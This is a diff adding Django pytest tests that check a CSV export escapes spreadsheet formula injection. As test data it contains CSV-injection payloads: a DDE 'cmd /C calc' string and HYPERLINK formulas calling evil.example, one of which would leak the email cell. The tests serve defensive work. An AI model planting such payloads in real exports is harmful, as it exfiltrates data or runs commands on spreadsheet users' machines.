@@ -1,6 +1,8 @@
 """Accounts under attack: racing for a name, squatting official names, over-long addresses,
 finding out who has an account, and spreadsheet formulas in the CSV export."""
 
+import csv
+import io
 import os
 import subprocess
 import sys
@@ -13,9 +15,13 @@ from django.core import mail
 from django.test import Client, override_settings
 from django.urls import URLPattern, URLResolver, get_resolver
 
+from accounts.export import csv_cell, csv_cell_value
 from accounts.forms import ProfileForm, username_is_reserved
 from accounts.models import Profile
 from accounts.services import UsernameTaken, profile_update
+from careers.models import Skill
+from roadmaps.models import Note
+from roadmaps.services import progress_set
 
 pytestmark = pytest.mark.django_db
 
@@ -242,3 +248,79 @@ def test_configuring_a_mail_server_makes_confirming_the_address_mandatory(email_
     )
     assert result.returncode == 0, result.stderr
     assert result.stdout.split() == [verification, "True"]
+
+
+# --- (9) Spreadsheet formulas in the CSV export ---------------------------------------------
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def export_rows(client) -> list[dict[str, str]]:
+    response = client.get("/accounts/export.csv")
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.content.decode())))
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_every_cell_that_a_spreadsheet_would_run_starts_with_a_quote(
+    learner_client, learner, start
+):
+    skill = Skill.objects.create(slug="python", name=f'{start}HYPERLINK("http://evil.example/")')
+    progress_set(user=learner, skill=skill, status="done")
+    Note.objects.create(user=learner, skill=skill, text=f"{start}1+1 is my note")
+    profile = Profile.objects.for_user(learner)
+    profile.display_name = f"{start}cmd|' /C calc'!A0"
+    profile.save()
+
+    rows = {row["record_type"]: row for row in export_rows(learner_client)}
+
+    assert rows["account"]["name"] == f"'{start}cmd|' /C calc'!A0"
+    assert rows["skill_progress"]["name"] == f'\'{start}HYPERLINK("http://evil.example/")'
+    assert rows["note"]["name"] == f'\'{start}HYPERLINK("http://evil.example/")'
+    assert rows["note"]["note_text"] == f"'{start}1+1 is my note"
+    cells = [cell for row in rows.values() for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS]
+
+
+def test_the_reviewed_payload_no_longer_reads_the_email_cell(learner_client, learner):
+    payload = '=HYPERLINK("http://evil.example/?leak="&G2,"Python")'
+    skill = Skill.objects.create(slug="python", name=payload)
+    progress_set(user=learner, skill=skill, status="done")
+    row = next(r for r in export_rows(learner_client) if r["record_type"] == "skill_progress")
+    assert row["name"] == "'" + payload
+
+
+def test_ordinary_values_are_exported_unchanged(learner_client, learner):
+    skill = Skill.objects.create(slug="sql", name="SQL (2-3 weeks)")
+    progress_set(user=learner, skill=skill, status="done")
+    Note.objects.create(user=learner, skill=skill, text="'quoted' & a=b, 1-2 + 3")
+    profile = Profile.objects.for_user(learner)
+    profile.display_name = "Jane D."
+    profile.save()
+
+    rows = {row["record_type"]: row for row in export_rows(learner_client)}
+
+    assert rows["account"]["name"] == "Jane D."
+    assert rows["account"]["slug"] == "learner"
+    assert rows["account"]["email"] == "learner@example.com"
+    assert rows["note"]["name"] == "SQL (2-3 weeks)"
+    assert rows["note"]["note_text"] == "'quoted' & a=b, 1-2 + 3"
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["- first point\n- second", "=SUM(A1:A3)", "+44 20", "@home", "\tindented", "\rx",
+     "'=already quoted", "''@two quotes", "'plain quote", "plain", "", "'"],
+    ids=repr,
+)  # fmt: skip
+def test_reading_a_cell_back_gives_exactly_what_was_written(value):
+    assert csv_cell_value(csv_cell(value)) == value
+
+
+def test_a_note_starting_with_a_dash_survives_export_and_reading_back(learner_client, learner):
+    skill = Skill.objects.create(slug="sql", name="SQL")
+    text = "- JOINs\n- window functions"
+    Note.objects.create(user=learner, skill=skill, text=text)
+    note = next(r for r in export_rows(learner_client) if r["record_type"] == "note")
+    assert note["note_text"] == "'" + text
+    assert csv_cell_value(note["note_text"]) == text
